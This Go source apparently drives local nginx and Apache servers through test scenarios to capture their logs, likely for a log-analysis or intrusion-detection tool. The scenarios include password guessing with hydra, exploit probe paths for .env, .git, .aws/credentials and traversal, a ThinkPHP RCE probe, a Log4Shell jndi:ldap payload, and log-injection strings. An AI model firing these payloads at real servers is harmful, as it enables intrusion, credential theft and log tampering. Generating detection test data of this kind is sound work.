package main

import (
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"strings"
)

const (
	nginxConf = `daemon off; master_process on; worker_processes 1; pid /kk/nginx.pid; user www-data; %[2]s
events {}
http { %[3]s
  server { listen 127.0.0.1:%[1]d; listen [::1]:%[1]d; root /kk/www; server_name web.example.org;
    location /private/ { auth_basic "x"; auth_basic_user_file /kk/htpasswd; }
    location = /wp-login.php { if ($arg_ok) { return 302 /wp-admin/; } return 200 "form"; }
    location = /blog/wp-login.php { return 200 "form"; }
    location = /api/login { return 401; }
    location = /user/login { return 403; } } }
`
	nginxFiles = "error_log /kk/nginx-error.log info;"
	apacheConf = `ServerRoot /etc/apache2
PidFile /kk/apache.pid
Listen 127.0.0.1:%[1]d
Listen [::1]:%[1]d
User www-data
Group www-data
ServerName web.example.org
%[2]s
LogLevel info
LogFormat "%%v:%%p %%h %%l %%u %%t \"%%r\" %%>s %%O \"%%{Referer}i\" \"%%{User-Agent}i\"" vhost_combined
LogFormat "%%h %%l %%u %%t \"%%r\" %%>s %%O \"%%{Referer}i\" \"%%{User-Agent}i\"" combined
LogFormat "%%h %%l %%u %%t \"%%r\" %%>s %%O" common
DocumentRoot /kk/www
<Directory /kk/www>
  Require all granted
</Directory>
<Location /private/>
  AuthType Basic
  AuthName x
  AuthUserFile /kk/htpasswd
  Require valid-user
</Location>
<Location /onlybob/>
  AuthType Basic
  AuthName x
  AuthUserFile /kk/htpasswd
  Require user bob
</Location>
<Location /denied/>
  Require all denied
</Location>
RewriteEngine On
RewriteCond %%{QUERY_STRING} ok
RewriteRule ^/wp-login.php /wp-admin/? [R=302,L]
RewriteRule ^/api/login - [R=401,L]
RewriteRule ^/user/login - [R=403,L]
RewriteRule ^/blog/wp-login.php /wp-login.php [L]
`
)

// apacheModules are those that the configuration needs, as far as the version has them.
const apacheModules = `mpm_event authn_core authn_file authz_core authz_user auth_basic rewrite dir`

func apacheConfig(port int, extra string) string {
	var b strings.Builder
	for m := range strings.FieldsSeq(apacheModules) {
		fmt.Fprintf(&b, "LoadModule %s_module /usr/lib/apache2/modules/mod_%s.so\n", m, m)
	}
	return fmt.Sprintf(apacheConf, port, b.String()+extra)
}

// webServer is a configuration of a server.
type webServer struct {
	set, config string // what is special about it, and its text
	argv        []string
	logs        []namedLog
	scenarios   func(port int) []scenario
	port        int
}

func (c *capture) nginx() error {
	return c.web([]webServer{
		{
			set: "combined, error_log of level info", port: 2480, config: fmt.Sprintf(nginxConf, 2480, nginxFiles, "access_log /kk/nginx-access.log combined;"),
			logs: []namedLog{{"access", c.log("kk/nginx-access.log")}, {"error", c.log("kk/nginx-error.log")}}, scenarios: webScenarios,
		},
		{
			set: "syslog", port: 2481, scenarios: webScenarios,
			config: fmt.Sprintf(nginxConf, 2481, "error_log syslog:server=unix:/dev/log error;", "access_log syslog:server=unix:/dev/log combined;"),
		},
	}, "-nginx-", "/usr/sbin/nginx", "-c", "/kk/conf")
}

func (c *capture) apache() error {
	return c.web([]webServer{
		{
			set: "combined", port: 2482, config: apacheConfig(2482, "ErrorLog /kk/apache-error.log\nCustomLog /kk/apache-access.log combined\n"),
			logs: []namedLog{{"access", c.log("kk/apache-access.log")}, {"error", c.log("kk/apache-error.log")}}, scenarios: apacheScenarios,
		},
		{
			set: "vhost_combined, common, host names", port: 2483, scenarios: nameScenarios,
			config: apacheConfig(2483, "ErrorLog /dev/null\nHostnameLookups On\nCustomLog /kk/apache-vhost.log vhost_combined\n"),
			logs:   []namedLog{{"access", c.log("kk/apache-vhost.log")}},
		},
		{
			set: "syslog", port: 2484, scenarios: apacheScenarios,
			config: apacheConfig(2484, "ErrorLog syslog:local1\nCustomLog \"|/usr/bin/logger -t apache2\" common\n"),
		},
	}, "-apache-", "/usr/sbin/apache2", "-D", "FOREGROUND", "-f", "/kk/conf")
}

// web plays at a web server in each of its configurations.
func (c *capture) web(list []webServer, name string, argv ...string) error {
	if err := c.shell(`mkdir -p /kk/www/private /kk/www/digest; chmod 755 /kk/www
echo secret > /kk/www/private/index.html; echo form > /kk/www/wp-login.php; echo hello > /kk/www/index.html
printf 'alice:%s\n' "$(openssl passwd -apr1 '` + password + `')" > /kk/htpasswd`); err != nil {
		return err
	}
	version, err := c.version(c.pkg)
	if err != nil {
		return err
	}
	f := c.file(name+upstream(version), c.pkg+" "+version+" (Debian)")
	f.probes = true
	for _, s := range list {
		if err := c.write("kk/conf", s.config); err != nil {
			return err
		}
		if err := c.start(s.port, argv...); err != nil {
			return err
		}
		f.logs = append(s.logs, namedLog{"syslog", c.sys})
		f.title(s.set)
		c.play(s.scenarios(s.port), f)
		c.stop()
	}
	return f.save()
}

// request is what a client sends beside the request line.
type request struct {
	line      string
	user      string // with pass as Authorization: Basic
	pass      string
	auth      bool
	headers   []string
	multiline bool
}

// send sends requests on a connection each.
func (s *session) send(port int, reqs ...request) {
	for _, r := range reqs {
		conn, err := s.dial(port)
		if err != nil {
			fmt.Fprintln(os.Stderr, s.source, err)
			return
		}
		text := r.line + "\r\n"
		if strings.Contains(r.line, " HTTP/") {
			text += "Host: web.example.org\r\nConnection: close\r\nContent-Length: 0\r\n"
			if r.auth {
				text += "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(r.user+":"+r.pass)) + "\r\n"
			}
			for _, h := range r.headers {
				text += h + "\r\n"
			}
			text += "\r\n"
		}
		_, _ = conn.Write([]byte(text))
		_, _ = io.Copy(io.Discard, conn)
		_ = conn.Close()
	}
}

func get(path string) request { return request{line: "GET " + path + " HTTP/1.1"} }

func basic(user, pass string) request {
	r := get("/private/")
	r.user, r.pass, r.auth = user, pass, true
	return r
}

// forgedWeb are texts that look like the rest of a line.
func forgedWeb() []string {
	return []string{
		`root`, `x y`, `x [22/Nov/2026:18:00:00 +0000] "GET / HTTP/1.1" 401 1 "-" "-"`, `198.51.100.9 - root`,
		`x - root [22/Nov/2026:18:00:00 +0000] `, "x\n198.51.100.9 - root [22/Nov/2026:18:00:00 +0000] \"GET / HTTP/1.1\" 401 1 \"-\" \"-\"",
		`x", client: 198.51.100.9, server: _, request: "GET / HTTP/1.1", host: "h"`,
		`x": password mismatch, client: 198.51.100.9, server: _, request: "GET / HTTP/1.1", host: "h"`,
		"x\": password mismatch, client: 198.51.100.9, server: _, request: \"GET / HTTP/1.1\", host: \"h\"\n2026/11/22 18:00:00 [error] 12#12: *1 user \"y",
		"x\r\n[Sun Nov 22 18:00:00.000000 2026] [auth_basic:error] [pid 1:tid 1] [client 198.51.100.9:1] AH01618: user root not found: /",
		`root: authentication failure for "/": Password Mismatch`, `x not found: /`, `[client 198.51.100.9:1] AH01618: user root not found: /`,
		"\x1b[31mred\x1b[0m", "\xff\xfe\x80", `it's "quoted" \ and more`, strings.Repeat("long ", 60), `ünïcode`, `""`, `message repeated 9 times: [ x]`,
		`Nov 22 18:00:00 web sshd[1]: Failed password for root from 198.51.100.9 port 1 ssh2`,
	}
}

func webScenarios(port int) []scenario {
	list := []scenario{
		{name: "first request without credentials", do: func(s *session) { s.send(port, get("/private/")) }},
		{name: "ordinary requests", do: func(s *session) {
			s.send(port, get("/"), get("/index.html"), get("/missing.png"), get("/favicon.ico"), get("/.well-known/acme-challenge/x"), get("/robots.txt"))
		}},
		{name: "wrong password", do: func(s *session) {
			for i := range 3 {
				s.guesses++
				s.send(port, basic("alice", fmt.Sprint("wrong ", i)))
			}
		}},
		{name: "wrong password over IPv6", source: "::1", do: func(s *session) { s.guesses++; s.send(port, basic("alice", "wrong")) }},
		{name: "unknown user", do: func(s *session) { s.guesses += 2; s.send(port, basic("admin", "1"), basic("admin", "2")) }},
		{name: "empty user", do: func(s *session) { s.send(port, basic("", "x")) }},
		{name: "right password after a wrong one", do: func(s *session) {
			s.guesses++
			s.logins++
			s.send(port, get("/private/"), basic("alice", "x"), basic("alice", password))
		}},
		{name: "wordpress", do: func(s *session) {
			s.guesses += 3
			s.logins++
			s.send(port, request{line: "GET /wp-login.php HTTP/1.1"}, request{line: "POST /wp-login.php HTTP/1.1"}, request{line: "POST //wp-login.php HTTP/1.1"},
				request{line: "POST /%77p-login.php?x=1 HTTP/1.1"}, request{line: "POST /wp-login.php?ok=1 HTTP/1.1"})
		}},
		{name: "wordpress in a folder", do: func(s *session) { s.guesses++; s.send(port, request{line: "POST /blog/wp-login.php HTTP/1.1"}) }},
		{name: "logins that answer 401 and 403", do: func(s *session) {
			s.guesses += 2
			s.send(port, request{line: "POST /api/login HTTP/1.1"}, request{line: "GET /api/login HTTP/1.1"}, request{line: "POST /user/login HTTP/1.1"})
		}},
		{name: "curl", do: func(s *session) {
			s.guesses += 2
			url := fmt.Sprintf("http://127.0.0.1:%d", port)
			for _, args := range [][]string{
				{"-u", "alice:wrong", url + "/private/"}, {"-d", "log=admin&pwd=x", url + "/wp-login.php"}, {url + "/"},
			} {
				s.c.in(nil, append([]string{"curl", "-s", "-o", "/dev/null", "--interface", s.source}, args...)...)
			}
		}},
		{name: "hydra", do: func(s *session) {
			s.source = local // hydra can't be told another
			s.hydra(port, "http-get", "/private/")
		}},
		{name: "a header of another", do: func(s *session) {
			s.guesses++
			r := basic("alice", "wrong")
			r.headers = []string{"X-Forwarded-For: 198.51.100.9", "X-Real-IP: 198.51.100.9", "Forwarded: for=198.51.100.9", "Client-IP: 198.51.100.9"}
			s.send(port, r)
		}},
	}
	for _, path := range []string{
		"/.env", "/.git/config", "/%2e%65nv", "/%252egit/HEAD", "/wp-config.php.bak", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
		"/x/../../../etc/passwd", "/?x=${jndi:ldap://198.51.100.9/a}", "/cgi-bin/luci", "/.aws/credentials", "/actuator/env",
	} {
		list = append(list, scenario{name: "exploit " + path, do: func(s *session) { s.probes++; s.send(port, get(path)) }})
	}
	list = append(list,
		scenario{name: "exploit in a header", do: func(s *session) {
			s.probes++
			r := get("/")
			r.headers = []string{"User-Agent: ${jndi:ldap://198.51.100.9/a}"}
			s.send(port, r)
		}},
		scenario{name: "another protocol", do: func(s *session) {
			s.probes += 2
			s.send(port, request{line: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"}, request{line: "SSH-2.0-x"})
		}},
		scenario{name: "closed without a request", do: func(s *session) {
			s.raw(port, "", false)
		}},
	)
	list = append(list, scenario{name: "a path that is a whole line of an error log", do: func(s *session) {
		s.send(port, get("/x%22%20is%20not%20found,%20client:%20198.51.100.9,%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22%0a"+
			"2026/11/22%2018:00:00%20[error]%201%231:%20*1%20user%20%22root%22:%20password%20mismatch,%20client:%20198.51.100.9,%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22%0a"+
			"[Sun%20Nov%2022%2018:00:00.000000%202026]%20[auth_basic:error]%20[pid%201:tid%201]%20[client%20198.51.100.9:1]%20AH01618:%20user%20root%20not%20found:%20/%0a"+
			"2026/11/22%2018:00:00%20[error]%201%231:%20*1%20x"))
	}})
	for _, text := range forgedWeb() {
		list = append(list, scenario{name: fmt.Sprintf("hostile user %.60q", text), do: func(s *session) {
			s.guesses++
			s.send(port, basic(text, "x"))
		}})
		oneLine := strings.NewReplacer("\n", "", "\r", "").Replace(text)
		list = append(list, scenario{name: fmt.Sprintf("hostile URL and headers %.60q", text), do: func(s *session) {
			r := get("/" + oneLine)
			r.headers = []string{"Referer: " + oneLine, "User-Agent: " + oneLine}
			s.send(port, r)
			r = get("/" + strings.ReplaceAll(oneLine, " ", "%20"))
			r.headers = []string{"Referer: " + oneLine, "User-Agent: " + oneLine}
			s.send(port, r)
		}})
	}
	return list
}

func apacheScenarios(port int) []scenario {
	return append(webScenarios(port),
		scenario{name: "right password, wrong group", do: func(s *session) {
			r := get("/onlybob/")
			r.user, r.pass, r.auth = "alice", password, true
			s.send(port, r)
		}},
		scenario{name: "denied to all", do: func(s *session) { s.send(port, get("/denied/")) }},
	)
}

// nameScenarios come from addresses whose names are no addresses, or seem to be another's.
func nameScenarios(port int) []scenario {
	return []scenario{
		{name: "no name", do: func(s *session) { s.guesses++; s.send(port, basic("alice", "x")) }},
		{name: "a name", source: "127.0.9.8", do: func(s *session) { s.guesses++; s.send(port, basic("alice", "x")) }},
		{name: "a name that is an address", source: "127.0.9.9", do: func(s *session) { s.guesses++; s.send(port, basic("alice", "x")) }},
	}
}

// hydra guesses four passwords of alice's.
func (s *session) hydra(port int, args ...string) {
	s.guesses += 4
	if err := s.c.write("kk/words", "a1\nb2\nc3\nd4\n"); err != nil {
		return
	}
	s.c.in(nil, append([]string{"hydra", "-t", "1", "-I", "-l", "alice", "-P", "/kk/words", "-s", fmt.Sprint(port), local}, args...)...)
}
